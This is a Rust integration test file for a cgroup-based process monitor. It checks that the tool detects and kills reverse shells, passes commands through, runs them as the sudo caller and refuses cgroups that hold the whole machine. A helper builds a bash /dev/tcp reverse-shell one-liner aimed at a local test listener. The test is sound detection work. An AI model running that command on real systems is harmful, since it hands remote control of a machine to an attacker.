//! Without Incus: a command of this machine in a cgroup of its own, and cgroups that exist.

use std::fs;
use std::net::Ipv4Addr;
use std::process::Command;

use coi_tests::incus::cgroups;
use coi_tests::{Attacker, Cgroup, Coi, Running, Viewer, actions, incus};
use nix::unistd::User;

/// A reverse shell to an attacker on this machine.
fn reverse_shell(attacker: &Attacker) -> String {
    attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")
}

#[test]
fn a_reverse_shell_is_killed() {
    let coi = Coi::new();
    let attacker = Attacker::listen(Ipv4Addr::LOCALHOST);
    let mut unwatched = Command::new("bash").args(["-c", &reverse_shell(&attacker)]).spawn().unwrap();
    attacker.await_shell();
    unwatched.kill().unwrap();
    unwatched.wait().unwrap();

    let attacker = Attacker::listen(Ipv4Addr::LOCALHOST);
    let watch = coi.start(&["watch", "--", "bash", "-c", &reverse_shell(&attacker)]);
    let name = format!("coi.watch-{}", watch.pid());
    let ended = watch.finish().expect(137);
    assert!(ended.stderr.starts_with("ready\n"), "{}", ended.stderr);
    let ended = ended.says(&format!("coi: killed {name}: rule reverse-shell-socket (critical): "));
    assert_eq!(ended.text(), "");
    assert!(!cgroups().join(&name).exists());
    assert_eq!(
        actions(&coi.audit(&name)),
        [("reverse-shell-socket".into(), "kill".into(), "success".into())]
    );
}

#[test]
fn the_command_passes_through() {
    let coi = Coi::new();
    let mut watch = coi.command(&["watch", "--", "sh", "-c", "cat; echo said >&2; exit 7"]);
    let input: Vec<u8> = (0..=255).collect();
    coi.write("input", &input);
    let ended = Running::start(watch.stdin(fs::File::open(coi.workspace().join("input")).unwrap())).finish();
    let ended = ended.expect(7);
    assert_eq!((ended.stdout, ended.stderr.as_str()), (input, "ready\nsaid\n"));
    // Not every SIGKILL is a rule's.
    let ended = coi.coi(&["watch", "--", "sh", "-c", "kill -KILL $$"]).expect(137);
    assert_eq!(ended.stderr, "ready\n");
    let ended = coi.coi(&["watch", "--", "no-such-program"]).expect(127);
    assert!(ended.stderr.contains("no-such-program could not be started"), "{}", ended.stderr);
}

#[test]
fn what_it_leaves_running_ends_with_it() {
    let coi = Coi::new();
    let watch = coi.start(&["watch", "--", "sh", "-c", "sleep 1000 & echo $!"]);
    let cgroup = cgroups().join(format!("coi.watch-{}", watch.pid()));
    let ended = watch.finish().expect(0);
    assert!(!cgroup.exists());
    let sleep = ended.text().trim().to_owned();
    let command = fs::read_to_string(format!("/proc/{sleep}/cmdline")).unwrap_or_default();
    assert_eq!(command, "", "{sleep} lives");
}

#[test]
fn it_runs_as_who_called_sudo() {
    let coi = Coi::new();
    let nobody = User::from_name("nobody").unwrap().unwrap();
    let script = "id -u; id -g; echo $HOME $USER; env | grep -c ^SUDO_; grep ^CapEff /proc/self/status";
    let mut watch = coi.command(&["watch", "--", "sh", "-c", script]);
    watch.env("SUDO_UID", nobody.uid.to_string()).env("SUDO_USER", "nobody").env("SUDO_COMMAND", "x");
    let ended = Running::start(&mut watch).finish().expect(0);
    let (uid, gid, home) = (nobody.uid, nobody.gid, nobody.dir.display());
    let wanted = format!("{uid}\n{gid}\n{home} nobody\n0\nCapEff:\t0000000000000000\n");
    assert_eq!(ended.text(), wanted);

    let mut watch = coi.command(&["watch", "--", "true"]);
    Running::start(watch.env("SUDO_UID", "4294967294")).finish().expect(2).says("no such user");
}

#[test]
fn a_cgroup_that_exists() {
    let coi = Coi::new();
    let cgroup = Cgroup::make("exists");
    let name = cgroup.name();
    let path = cgroup.path().to_str().unwrap();

    // Only looked at, the shell is the attacker's.
    let viewer = Viewer::start(&coi, &["monitor", "--cgroup", path, "--format", "json"]);
    let attacker = Attacker::listen(Ipv4Addr::LOCALHOST);
    let mut shell = cgroup.command(&reverse_shell(&attacker)).spawn().unwrap();
    attacker.await_shell();
    let seen = viewer.until("the alert", |event| event["rule"]["id"] == "reverse-shell-socket");
    let action = &seen.last().unwrap()["coi"]["action"];
    assert_eq!((&action["name"], &action["result"]), (&"log".into(), &"success".into()));
    viewer.leave().expect(0);
    shell.kill().unwrap();
    shell.wait().unwrap();

    coi.coi(&["monitor", "--cgroup", path, "--respond", "--detach"]).expect(0);
    let attacker = Attacker::listen(Ipv4Addr::LOCALHOST);
    let ended = Running::start(&mut cgroup.command(&reverse_shell(&attacker))).finish();
    assert_eq!(ended.code, 137);
    let viewer = Viewer::start(&coi, &["monitor", "--cgroup", path, "--format", "json"]);
    viewer.until_state("killed");
    assert_eq!(
        actions(&coi.audit(&name)),
        [("reverse-shell-socket".into(), "kill".into(), "success".into())]
    );
}

#[test]
fn cgroups_that_hold_the_machine_are_refused() {
    let coi = Coi::new();
    let refused = |path: &str, why: &str| {
        coi.coi(&["monitor", "--cgroup", path]).expect(2).says(why);
    };
    refused("/", "the root cgroup");
    refused(cgroups().to_str().unwrap(), "the root cgroup");
    refused("/a/../..", "its path leads upwards");
    let cgroup = Cgroup::make("refused");
    let here = format!("/{}", cgroup.name());
    refused(&format!("{here}/../{}", cgroup.name()), "its path leads upwards");
    coi.coi(&["monitor", "--cgroup", &format!("{here}/none")]).expect(5);

    // What is refused for whom it holds: the daemon, moved there for the test.
    let daemon = Coi::with_daemon(&[]);
    let procs = cgroup.path().join("cgroup.procs");
    fs::write(&procs, daemon.daemon().pid().unwrap().to_string()).unwrap();
    daemon.coi(&["monitor", "--cgroup", &here]).expect(2).says("COI's own daemon is in it");
    fs::write(cgroups().join("cgroup.procs"), daemon.daemon().pid().unwrap().to_string()).unwrap();

    let incus = incus::pid();
    for pid in [1, incus.as_raw()] {
        let cgroups = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
        let path = cgroups.lines().find_map(|line| line.strip_prefix("0::")).unwrap();
        let why = match (path, pid) {
            ("/", _) => "the root cgroup",
            (_, 1) => "process 1 is in it",
            _ => "Incus is in it",
        };
        refused(path, why);
    }
}
